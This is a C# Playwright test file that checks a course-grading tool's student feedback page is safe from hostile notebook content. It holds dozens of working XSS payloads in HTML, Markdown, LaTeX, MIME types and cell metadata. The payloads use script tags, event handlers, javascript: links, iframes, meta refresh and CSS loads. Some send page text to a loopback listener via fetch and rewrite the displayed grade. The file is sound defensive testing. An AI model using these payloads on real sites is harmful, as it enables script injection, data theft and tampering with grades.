using System.Collections.Concurrent;
using System.Net;
using System.Net.Sockets;
using System.Text.Json.Nodes;
using CourseKit.Kernel.Grading;
using CourseKit.Kernel.Notebooks;
using CourseKit.Kernel.Tests.Pages;
using Microsoft.Playwright;

namespace CourseKit.Notebooks.Tests.Pages;

/// <summary>A feedback page holds what a stranger wrote. Each vector is one way in which that could run a script, ask a server, or leave the page.</summary>
[Trait("Cost", "browser")]
public sealed class FeedbackPageTests(OfflineBrowser browser) : IDisposable
{
    private readonly TempFolder _folder = new();
    private readonly TcpListener _server = new(IPAddress.Loopback, 0);
    private readonly ConcurrentBag<string> _asked = [];
    private int _vectors;

    private string Server => $"http://{_server.LocalEndpoint}";

    public void Dispose()
    {
        _server.Dispose();
        _folder.Dispose();
    }

    [Theory]
    [InlineData(ColorScheme.Light)]
    [InlineData(ColorScheme.Dark)]
    public async Task Nothing_of_a_student_runs_asks_a_server_leaves_the_page_or_changes_the_points(ColorScheme scheme)
    {
        _server.Start();
        _ = ListenAsync();
        const string Student = "a<img src=x onerror=console.log('ran student')>";
        var hostile = Hostile();
        var message = $"</code></p>{Script("message")}`` {Script("message in Markdown")}\n\n# 99 of 1 points";
        new GradeBook(_folder.PathOf(""), $"a{Script("assignment").Replace('/', '_')}<svg onload=console.log('ran assignment')>").Keep(
            new SubmissionGrade(Student, [new("sum", 0, 1, Kernel.Grading.TaskStatus.Failed, message)], [Script("remark"), "<img src=x onerror=console.log('ran remark')>"], [], hostile), "digest");
        var path = Directory.GetFiles(_folder.PathOf("feedback")).Single();
        var (page, complaints) = await browser.Open(path, 1100, scheme, offline: false);
        var home = page.Url;
        foreach (var frame in page.Frames)
        {
            // A dispatched click also reaches what nobody can see. Links to other sites open a window of their own, when the reader wants them.
            foreach (var trap in await frame.QuerySelectorAllAsync("main a:not([href^='#']):not([href^=http]), a[target=_top], a[target=_blank], button:not(#theme)"))
            {
                if (frame != page.MainFrame || await trap.GetAttributeAsync("rel") != "noopener noreferrer")
                    await trap.DispatchEventAsync("click");
            }
        }
        await page.WaitForTimeoutAsync(1000);

        Assert.InRange(_vectors, 70, 200);
        Assert.Empty(complaints.Where(text => text.Contains(": ran ", StringComparison.Ordinal)).Distinct());
        Assert.Empty(_asked);
        Assert.Equal(home, page.Url);
        Assert.Single(page.Context.Pages);
        Assert.Equal("0 of 1 points", await page.TextContentAsync("h1 ~ p"));
        Assert.EndsWith($": {Student}", await page.TextContentAsync("h1"), StringComparison.Ordinal);
        Assert.Equal(scheme == ColorScheme.Dark ? "dark" : "light", await page.EvaluateAsync<string>("document.documentElement.dataset.theme"));
    }

    // The notebook with all vectors. A vector that runs writes "ran" and its name to the console, rewrites the page, and sends its text away.
    private Notebook Hostile()
    {
        string[] html =
        [
            Script("script"), $"<script type=module>import '{Server}/module'; {Run("module")}</script>", $"<script src={Server}/src></script>",
            On("img src=x", "onerror"), On("svg", "onload"), On("body", "onload"), On("details open", "ontoggle", "<summary>x</summary>x"),
            On("input autofocus", "onfocus"), On("video src=x", "onerror"), On("style", "onload"), On("marquee", "onstart"),
            $"<style>@keyframes k {{ }} #anim {{ animation: k 1s }}</style>{On("b id=anim", "onanimationstart")}",
            $"<iframe src=\"javascript:{Run("frame-url")}\"></iframe>", $"<iframe srcdoc=\"{Script("srcdoc")}\"></iframe>", $"<iframe src={Server}/frame></iframe>",
            $"<object data=\"data:text/html,{Script("object")}\"></object>", $"<embed src=\"data:text/html,{Script("embed")}\">",
            $"<object data={Server}/object></object><embed src={Server}/embed>",
            $"\"></iframe>{Script("quote")}", $"</iframe></div></section></main>{Script("closing")}", $"<!--{Script("comment")}--><![CDATA[{Script("cdata")}]]>",
            $"<meta http-equiv=refresh content=\"0; url={Server}/refresh\">", $"<base href={Server}/><base target=_top><img src=based.png>",
            $"<a href={Server}/top target=_top>x</a>", $"<a href={Server}/window target=_blank>x</a>", $"<a href=\"javascript:{Run("link")}\" target=_top>x</a>",
            $"<form action={Server}/form target=_top><button>x</button></form>", $"<form><button formaction=\"javascript:{Run("button")}\" formtarget=_top>x</button></form>",
            $"<math><maction href=\"javascript:{Run("math")}\">x</maction></math><svg><a href=\"javascript:{Run("svg link")}\" target=_top><text y=9>x</text></a></svg>",
            $"<svg><set onbegin=\"{Run("set")}\" attributeName=x></set><foreignObject>{On("img src=x", "onerror")}</foreignObject></svg>",
            $"<style>@import url({Server}/import); h1 ~ p {{ display: none }} p {{ background: url({Server}/css) }} @font-face {{ font-family: f; src: url({Server}/font) }} * {{ font-family: f }}</style><p>x",
            $"<div style='position:fixed;inset:0;z-index:99;background:#fff'>99 of 1 points</div>",
            $"<link rel=stylesheet href={Server}/sheet><link rel=prefetch href={Server}/prefetch><link rel=preconnect href={Server}><link rel=icon href={Server}/icon>",
            $"<img src={Server}/img srcset=\"{Server}/srcset 1x\"><audio src={Server}/audio autoplay></audio><a ping={Server}/ping href=# target=_top>x</a>",
            $"<template shadowrootmode=open>{Script("shadow")}</template><noscript>{On("img src=x", "onerror")}</noscript>",
        ];
        var cell = Page.CellWith(
        [
            .. html.Select(one => Page.Display(("text/html", one))),
            Page.Display(("application/javascript", Run("application/javascript"))), Page.Display(("image/svg+xml", $"<svg onload=\"{Run("svg picture")}\">{Script("svg picture")}</svg>")),
            Page.Display(($"text/{Script("mime")}", "x")), Page.Display(("image/png", "x\"" + On("img src=x", "onerror"))),
            Page.Display(("text/markdown", Script("Markdown output"))), Page.Display(("text/latex", $"</span>{Script("latex")}")),
            Page.Display(("text/latex", $"$\\href{{javascript:{Run("href")}}}{{x}}$")), Page.Display(("application/json", Script("json"))), Page.Display(("text/plain", Script("plain"))),
            Page.Display(("application/vnd.plotly.v1+json", new JsonObject { ["data"] = Script("plotly") }), ("text/html", Script("chart"))),
            Page.Error(Script("error"), Script("error message"), Script("traceback"), $"\e]8;;javascript:{Run("osc")}\ax\e]8;;\a"),
            Page.Stream("stdout", $"</pre>{Script("stream")}"), Page.Stream("stderr\" onclick=x", Script("stderr")),
        ]);
        cell.Source = $"</code></pre>{Script("code")}";
        string[] text =
        [
            Script("Markdown"), On("img src=x", "onerror"), $"# x {On("svg", "onload")}", $"## <h2 id=content>{Script("heading")}", $"[x](javascript:{Run("Markdown link")})",
            $"[x][r]\n\n[r]: <javascript:{Run("reference")}>", $"<javascript:{Run("autolink")}>", $"[x](<data:text/html,{Script("data link")}>)", $"[x](java\tscript:{Run("tab")})",
            $"![x](javascript:{Run("picture")})", $"![x]({Server}/picture)", $"![x]({Server.Replace("http:", "", StringComparison.Ordinal)}/picture)", "![x](attachment:a) [x](attachment:a)",
            $"[x](x \"\\\" onmouseover={Run("title")}\")", $"```\"{On("svg", "onload")}\n{Script("fence")}\n```", $"> [!NOTE\" {On("svg", "onload")}]\n> {Script("alert")}",
            $"x[^1]\n\n[^1]: {Script("footnote")}", $"$</span>{Script("formula")}$", $"|{Script("table")}|\n|-|\n|x|",
            $"[x](vbscript:x) <base href=\"{Server}/\"> <meta http-equiv=refresh content=\"0;url={Server}/meta\"> <style>h1 ~ p {{ display: none }}</style>",
        ];
        var json = JsonNode.Parse(new Notebook([cell, .. text.Select(one => NotebookCell.Markdown(one)), NotebookCell.Raw(Script("raw"))]).ToJson())!;
        foreach (var one in json["cells"]!.AsArray())
            one!["id"] = $"x\"><script>{Run("id")}</script>";
        foreach (var one in json["cells"]!.AsArray().Skip(1).SkipLast(1))
            one!["attachments"] = new JsonObject { ["a"] = new JsonObject { ["text/html\" onerror=\"" + Run("attachment")] = "x\" onerror=x" } };
        json["metadata"]!["language_info"] = new JsonObject { ["name"] = Script("language") };
        _vectors = cell.Outputs.Count + text.Length + 8; // and code, raw text, name, assignment, message, remark, ids, language
        return Notebook.Parse(json.ToJsonString());
    }

    private string Run(string name) =>
        $"console.log('ran {name}');try{{top.document.querySelector('h1~p').textContent='99 of 1 points'}}catch{{}};fetch('{Server}/{name}?'+document.body.textContent)";

    private string Script(string name) => $"<script>{Run(name)}</script>";

    private string On(string tag, string handler, string inner = "x") => $"<{tag} {handler}=\"{Run($"{tag} {handler}")}\">{inner}</{tag.Split(' ')[0]}>";

    // Answers with nothing, and keeps what it was asked. A connection counts without a request, because it tells that somebody reads the page.
    private async Task ListenAsync()
    {
        while (true)
        {
            var client = await _server.AcceptTcpClientAsync();
            _asked.Add("connection");
            _ = AnswerAsync(client);
        }
    }

    private async Task AnswerAsync(TcpClient client)
    {
        using var connection = client;
        var buffer = new byte[4096];
        try
        {
            var length = await connection.GetStream().ReadAsync(buffer);
            _asked.Add(System.Text.Encoding.ASCII.GetString(buffer, 0, length).Split('\n')[0]);
            await connection.GetStream().WriteAsync("HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n"u8.ToArray());
        }
        catch (IOException)
        {
            // The browser closed the connection.
        }
    }
}
